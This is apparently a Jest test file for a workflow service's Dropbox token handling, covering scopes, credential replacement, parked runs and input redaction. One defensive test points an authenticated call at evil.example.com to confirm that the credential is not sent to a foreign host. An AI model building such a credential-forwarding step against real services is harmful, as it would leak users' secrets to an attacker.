import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { createTenant, type Json } from '../support/api-client.js';
import { connectDropbox, DROPBOX_FIELDS } from '../support/story/connected-tokens.js';
import { Draft } from '../support/story/drafts.js';
import { Latchkey } from '../support/story/latchkey.js';
import { carriers } from './support/carriers.js';
import { expectStatus, ProcessDesk } from './support/process-desk.js';

const list = (name: string, token: string) =>
  `  - ${name}: { call: dropbox.listFolder, with: { token: ${token}, path: '' } }`;
const http = (name: string, token: string) =>
  `  - ${name}: { call: http, with: { method: post, endpoint: { uri: 'https://api.dropboxapi.com/2/users/get_current_account', authentication: { use: ${token} } } } }`;

/** Until a test says so. */
const HEAR = '  - pause: { listen: { to: { one: { with: { type: go.on } } } } }';

describe.each(carriers)('the tokens of runs on %s', (_carrier, createDatabase) => {
  let latchkey: Latchkey;
  let desk: ProcessDesk;
  beforeAll(async () => {
    latchkey = await Latchkey.start(createDatabase);
  });
  afterAll(() => latchkey.close());
  beforeEach(async () => {
    desk = await ProcessDesk.of(await createTenant(latchkey.app), 'Clinic');
  });
  const connect = (name: string, place: Record<string, string> = {}) =>
    connectDropbox(latchkey, desk.caller, { name, ...place });

  const calls = async (runId: string) =>
    (await desk.steps(runId)).filter(({ kind, path }: Json) => kind === 'step' && path !== '/do/1/pause');
  const tell = async (runId: string) => {
    const event = { specversion: '1.0', id: runId, source: 'urn:desk', type: 'go.on' };
    const headers = { 'content-type': 'application/cloudevents+json' };
    expectStatus(await desk.caller.post(`/v1/runs/${runId}/events`, event, headers), 202);
  };

  /** New values proved in a draft, and swapped in at Done. */
  async function replace(token: Json): Promise<void> {
    const draft = await Draft.begin(desk.caller, { tokenId: token.id, fields: DROPBOX_FIELDS });
    await draft.connect(latchkey.browser());
    await draft.finish();
  }

  it('shows name, scope and generation of the token that each step used', async () => {
    await connect('Files');
    const id = await desk.start(await desk.publish('Both', `${list('list', 'Files')}\n${http('who', 'files')}`));
    await desk.until(id, 'completed', 'faulted', 'parked');
    expect(await desk.steps(id)).toMatchObject([
      { outcome: 'done', action: 'dropbox.listFolder', token: { name: 'Files', scope: 'global', generation: 1 } },
      { outcome: 'done', token: { name: 'Files', scope: 'global', generation: 1 } },
    ]);
  });

  it('shows what an action was asked for, unless that repeats the credential', async () => {
    await connect('Files');
    const asked = "  - list: { call: dropbox.listFolder, with: { token: Files, path: '${ .path }' } }";
    const processId = await desk.publish('Asked', asked);
    const answer = await desk.caller.post('/v1/resolutions', { appId: desk.appId, name: 'Files' });
    const [, secret] = expectStatus(answer, 200).credential.headers.authorization.split(' ');
    const [plain, telling] = [
      await desk.start(processId, { path: '' }),
      await desk.start(processId, { path: `/${secret}` }),
    ];
    await desk.until(plain, 'completed');
    await desk.until(telling, 'faulted');
    expect(await desk.steps(plain)).toMatchObject([{ input: { path: '' } }]);
    const [step] = await desk.steps(telling);
    expect(step).toMatchObject({ outcome: 'failed', inputWithheld: true });
    expect(step).not.toHaveProperty('input');
  });

  it('takes the token of the app before the global one', async () => {
    await connect('Files');
    await connect('Files', { appId: desk.appId });
    const id = await desk.start(await desk.publish('Own', list('list', 'Files')));
    await desk.until(id, 'completed');
    expect(await desk.steps(id)).toMatchObject([{ token: { scope: 'app' } }]);
  });

  it('uses replaced credentials at the very next step of a run under way', async () => {
    const token = await connect('Files');
    const tasks = `${list('one', 'Files')}\n${HEAR}\n${list('two', 'Files')}`;
    const id = await desk.start(await desk.publish('Immediate', tasks));
    await desk.until(id, 'waiting');
    await replace(token);
    await tell(id);
    await desk.until(id, 'completed');
    expect(await calls(id)).toMatchObject([{ token: { generation: 1 } }, { token: { generation: 2 } }]);
  });

  it('parks a run whose token is missing and goes on when it is connected', async () => {
    const id = await desk.start(await desk.publish('Early', list('list', 'Later')));
    const parked = await desk.until(id, 'parked');
    expect(parked.waits).toMatchObject([
      { kind: 'token', step: '/do/0/list', token: 'Later', code: 'token-not-found' },
    ]);
    await connect('Another');
    expect(await desk.run(id)).toMatchObject({ status: 'parked' });
    await connect('Later');
    await desk.until(id, 'completed');
    expect(await desk.steps(id)).toMatchObject([
      { name: '/do/0/list', outcome: 'parked' },
      { kind: 'signal' },
      { name: '/do/0/list!2', outcome: 'done', token: { name: 'Later' } },
    ]);
  });

  it('parks on a dead token, retries the same step when it is reconnected, and repeats nothing before it', async () => {
    const token = await connect('Files');
    const tasks = `${list('one', 'Files')}\n${HEAR}\n${list('two', 'Files')}`;
    const id = await desk.start(await desk.publish('Dead', tasks));
    await desk.until(id, 'waiting');
    await latchkey.vendors.revoke('dropbox', { all: true });
    await tell(id);
    expect((await desk.until(id, 'parked')).waits).toMatchObject([{ kind: 'token', token: 'Files' }]);
    await replace(token);
    await desk.until(id, 'completed');
    expect((await calls(id)).map(({ name }) => name)).toEqual(['/do/0/one', '/do/2/two', '/do/2/two!2']);
  });

  it('tries a parked run again when somebody says so, and parks again while nothing is mended', async () => {
    const id = await desk.start(await desk.publish('Patient', list('list', 'Missing')));
    await desk.until(id, 'parked');
    expectStatus(await desk.caller.post(`/v1/runs/${id}/resume`, {}), 200);
    await desk.until(id, 'parked');
    expect((await desk.steps(id)).filter(({ outcome }) => String(outcome) === 'parked').length).toBeGreaterThanOrEqual(
      1,
    );
    expectStatus(await desk.caller.post(`/v1/runs/${id}/cancel`, {}), 200);
    expect((await desk.caller.post(`/v1/runs/${id}/resume`, {})).status).toBe(409);
  });

  it('counts no parked time against a timeout', async () => {
    const tasks = list('list', 'Slow Admin').replace('{ call', '{ timeout: { after: { seconds: 45 } }, call');
    const id = await desk.start(await desk.publish('Limited', tasks));
    await desk.until(id, 'parked');
    latchkey.clock.advance(60_000);
    await connect('Slow Admin');
    expect(await desk.until(id, 'completed', 'faulted')).toMatchObject({ status: 'completed' });
  });

  it('sends a credential to no foreign host', async () => {
    await connect('Files');
    const tasks = http('leak', 'Files').replace('api.dropboxapi.com', 'evil.example.com');
    const id = await desk.start(await desk.publish('Leak', tasks));
    expect(await desk.until(id, 'faulted')).toMatchObject({ problem: { instance: '/do/0/leak' } });
  });

  it('calls no action of another connector with a token', async () => {
    await connect('Files');
    const tasks = '  - odd: { call: salesforce.nothing, with: { token: Files } }';
    const id = await desk.start(await desk.publish('Odd', tasks));
    expect(await desk.until(id, 'faulted')).toMatchObject({ problem: { instance: '/do/0/odd' } });
  });

  it('lists the published step where the token is used', async () => {
    const token = await connect('Files');
    const processId = await desk.publish('User', list('list', 'Files'));
    expect((await desk.caller.get(`/v1/access-tokens/${token.id}/uses`)).body.items).toEqual([
      { appId: desk.appId, processId, version: 1, stepPath: '/do/0/list' },
    ]);
  });
});
